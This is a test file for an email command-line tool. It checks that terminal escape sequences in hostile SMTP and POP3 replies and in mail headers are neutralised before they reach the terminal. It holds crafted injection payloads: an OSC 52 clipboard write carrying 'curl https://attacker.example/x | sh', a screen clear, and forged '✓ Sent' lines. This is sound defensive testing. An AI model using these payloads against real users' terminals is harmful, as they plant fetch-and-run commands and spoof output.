import { createServer, type Server } from 'node:net';
import { type Emulator, startEmulator } from '@mailplug/emulator';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { addAccountArgs } from '../src/commands/demo-support.js';
import { type CliResult, runCli, tempDir } from './helpers.js';

/**
 * A hostile or compromised server answers with terminal escape sequences: OSC 52 (writes the
 * admin's clipboard), ESC [2J (clears the screen), and a carriage return or line break followed
 * by a fake "✓ Sent" line. None of it may reach the terminal as anything but inert text.
 *
 * smtp-server (the emulator's SMTP) already blanks control characters in its own replies and the
 * POP3 client refuses them in status lines, so the SMTP cases talk to a deliberately hostile
 * server on a raw socket — what an attacker's server would send.
 */
const OSC52 = `\x1b]52;c;${Buffer.from('curl https://attacker.example/x | sh').toString('base64')}\x07`;
const CLEAR = '\x1b[2J';
const C1_CSI = '\u009b31m';
const HOSTILE = `blocked-by-policy ${OSC52}${CLEAR}${C1_CSI}\r✓ Sent <fake@attacker.example> — accepted: everyone`;
const SENDER = 'alice@contoso.test';

let emulator: Emulator;
let hostile: { server: Server; port: number; auth: string; data: string };
let dir: { path: string; remove(): Promise<void> };

/** A minimal SMTP server that replies whatever the test sets, control characters included. */
async function startHostileSmtp(): Promise<typeof hostile> {
  const state = { auth: '235 2.7.0 Authentication successful', data: '250 2.0.0 queued' };
  const server = createServer((socket) => {
    let buffer = '';
    let inData = false;
    const reply = (text: string) => socket.write(`${text}\r\n`);
    reply(`220 hostile.example ESMTP ${OSC52}ready`);
    socket.on('data', (chunk) => {
      buffer += chunk.toString('latin1');
      for (let end = buffer.indexOf('\r\n'); end >= 0; end = buffer.indexOf('\r\n')) {
        const line = buffer.slice(0, end);
        buffer = buffer.slice(end + 2);
        if (inData) {
          if (line === '.') {
            inData = false;
            reply(state.data);
          }
          continue;
        }
        const verb = line.split(' ')[0]?.toUpperCase();
        if (verb === 'EHLO') reply('250-hostile.example\r\n250-AUTH PLAIN LOGIN\r\n250 8BITMIME');
        else if (verb === 'AUTH') reply(state.auth);
        else if (verb === 'DATA') {
          inData = true;
          reply('354 go ahead');
        } else if (verb === 'QUIT') {
          reply('221 bye');
          socket.end();
        } else reply('250 2.1.0 ok');
      }
    });
    socket.on('error', () => undefined);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as { port: number }).port;
  return Object.assign(state, { server, port });
}
const cli = (args: string[]) => runCli(args, { configDir: dir.path });

/**
 * No control character survives (ESC, BEL, CR, C1) and no line starts with "✓ Sent"; in text
 * output the whole OSC sequence goes, payload included (JSON keeps it, escaped as \u001b).
 */
function expectNeutralised(result: CliResult, { json = false } = {}): void {
  const output = result.stdout + result.stderr;
  expect(output).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
  if (!json) expect(output).not.toContain(']52;');
  const forged = output.split('\n').filter((line) => /^\s*✓ Sent/.test(line));
  expect(forged).toEqual([]);
}

beforeAll(async () => {
  emulator = await startEmulator();
  hostile = await startHostileSmtp();
  dir = await tempDir();
  const password = emulator.settings.basic.secrets['emulator-basic-password'];
  const server = (protocol: string, port: number | undefined, security: string) => ({
    protocol,
    host: '127.0.0.1',
    port: String(port),
    security,
    'ca-file': emulator.caCertPath,
    provider: 'basic',
    'password-stdin': '',
  });
  for (const [id, flags] of [
    ['office', { ...server('smtp', hostile.port, 'none'), 'allow-insecure-auth': '', from: SENDER }],
    ['inbox', { ...server('pop3', emulator.ports.pop3s, 'tls'), scope: 'user', owner: 'alice' }],
  ] as const) {
    const added = await runCli(addAccountArgs(id, flags, { username: SENDER }), {
      configDir: dir.path,
      stdin: password,
    });
    expect(added.code, added.stderr).toBe(0);
  }
  expect((await cli(['users', 'add', 'alice'])).code).toBe(0);
});
afterEach(() => {
  emulator.mailServers?.script.clear();
  hostile.auth = '235 2.7.0 Authentication successful';
  hostile.data = '250 2.0.0 queued';
});
afterAll(async () => {
  hostile?.server.close();
  await emulator?.stop();
  await dir?.remove();
});

describe('untrusted text reaches the terminal neutralised', () => {
  it('send: a hostile multi-line SMTP rejection', async () => {
    hostile.data = `554-5.7.1 ${HOSTILE}\r\n554 5.7.1 ✓ Sent <second-fake@attacker.example>`;
    const result = await cli([
      ...['send', 'office', '--as', 'alice', '--to', 'bob@contoso.test'],
      ...['--subject', 'x', '--text', 'x'],
    ]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('blocked-by-policy');
    expectNeutralised(result);
  });

  it('test: a hostile greeting and authentication reply, as text and as JSON', async () => {
    hostile.auth = `535 5.7.8 ${HOSTILE}`;
    const text = await cli(['test', 'office']);
    expect(text.code).toBe(1);
    expect(text.stdout).toContain('hostile.example ESMTP');
    expect(text.stdout).toContain('blocked-by-policy');
    expectNeutralised(text);

    // JSON keeps the server's exact words, escaped, for a program to read.
    const json = await cli(['test', 'office', '--json']);
    expectNeutralised(json, { json: true });
    const steps = JSON.parse(json.stdout).steps as {
      id: string;
      detail?: string;
      error?: { message: string };
    }[];
    expect(steps.find((step) => step.id === 'auth')?.error?.message).toContain(OSC52);
  });

  it('test: a hostile POP3 reply', async () => {
    emulator.mailServers?.script.next({ protocol: 'pop3', stage: 'auth', reply: `-ERR ${HOSTILE}` });
    const result = await cli(['test', 'inbox']);
    expect(result.code).toBe(1);
    expect(result.stdout).toContain('✗ Sign in');
    expectNeutralised(result);
  });

  it('receive: hostile headers (raw and encoded words) in the list and in --read', async () => {
    const encoded = `=?utf-8?b?${Buffer.from(`Invoice ${OSC52}\n✓ Sent <fake@attacker.example>`).toString('base64')}?=`;
    emulator.mail?.deliver(
      SENDER,
      `From: ${CLEAR}mallory@attacker.example\r\nSubject: ${encoded}\r\n\r\nbody ${OSC52}${CLEAR}\r\n`,
    );
    const list = await cli(['receive', 'inbox']);
    expect(list.code, list.stderr).toBe(0);
    expect(list.stdout).toContain('mallory@attacker.example');
    expect(list.stdout).toContain('Invoice');
    expectNeutralised(list);

    const id = /^(\S+)\s+\d+\s+mallory@/m.exec(list.stdout)?.[1] ?? '';
    const read = await cli(['receive', 'inbox', '--read', id]);
    expect(read.code, read.stderr).toBe(0);
    expect(read.stdout).toContain('mallory@attacker.example');
    expectNeutralised(read);
  });
});
